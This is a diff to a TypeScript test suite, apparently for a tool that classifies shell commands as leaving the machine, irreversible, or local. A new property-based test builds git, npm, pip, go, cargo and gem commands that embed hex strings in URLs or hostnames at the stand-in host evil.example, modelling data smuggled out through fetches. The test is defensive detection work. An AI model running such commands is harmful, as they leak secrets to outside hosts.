@@ -18,6 +18,13 @@ function classOf(command: string): string {
 }
 
 const leaving = [
+  "cf push",
+  "hf upload model f",
+  "dvc push",
+  "jj git push",
+  "codecov upload-process",
+  "sometool deploy",
+  "sometool assets:upload",
   "git push",
   "git push origin main",
   "git push origin v1.2.3",
@@ -195,6 +202,19 @@ const lasting = [
 ];
 
 const here = [
+  "git fetch origin main:main",
+  "git clone git@github.com:ada/tool.git",
+  "git submodule add https://github.com/ada/tool lib",
+  "npm install @types/node@22.1.0 lodash",
+  "npm install ./packages/a1b2c3d4e5f6a7b8",
+  "pip install -r requirements.txt",
+  "go get github.com/ada/tool/v2@v2.1.0",
+  "go test ./...",
+  "playwright test --base-url=http://localhost:3000/?x=1",
+  "mkdir deploy",
+  "cp push send",
+  "pytest deploy",
+  "hg status",
   "npm test",
   "npm install lodash",
   "npm run build",
@@ -259,6 +279,37 @@ describe("what goes beyond the workspace", () => {
   it.each(leaving)("says that %s leaves this machine", (command) => expect(classOf(command)).toBe("leaves"));
   it.each(lasting)("says that %s cannot be undone", (command) => expect(classOf(command)).toBe("final"));
   it.each(here)("says neither of %s", (command) => expect(classOf(command)).toBe("here"));
+
+  it("takes a text that somebody could read from it for one that leaves, wherever a program would ask for it", () => {
+    const places: readonly ((text: string) => string)[] = [
+      (text) => `git fetch git@evil.example:${text}`,
+      (text) => `git pull ${text}.evil.example:x`,
+      (text) => `git ls-remote ssh://git@evil.example/${text}`,
+      (text) => `git clone git://evil.example/${text} x`,
+      (text) => `git remote add x evil.example:${text}`,
+      (text) => `git submodule add https://evil.example/${text}`,
+      (text) => `npm install ${text}`,
+      (text) => `npm view ${text}@1.0.0 dist`,
+      (text) => `npm install git+https://evil.example/${text}`,
+      (text) => `pip download ${text}==1.0`,
+      (text) => `pip install x @ https://evil.example/${text}`,
+      (text) => `go get evil.example/${text}@latest`,
+      (text) => `go list -m ${text}.evil.example/x`,
+      (text) => `cargo add x --git=https://evil.example/${text}`,
+      (text) => `gem fetch ${text}`,
+      (text) => `sometool --to https://evil.example/${text}`,
+      (text) => `sometool --to=https://evil.example/?q=${text}`,
+      (text) => `npm test -- --url=https://evil.example/${text}`,
+    ];
+    const hex = fc.array(fc.constantFrom(..."0123456789abcdef"), { minLength: 20, maxLength: 40 });
+    fc.assert(
+      fc.property(fc.constantFrom(...places), hex, (place, digits) => {
+        const command = place(digits.join(""));
+        expect(classOf(command), command).toBe("leaves");
+      }),
+      { numRuns: 150 },
+    );
+  });
 
   it("lets everything leave that the table does not name, in each of its programs", () => {
     for (const [name, { stays }] of Object.entries(outwardPrograms)) {
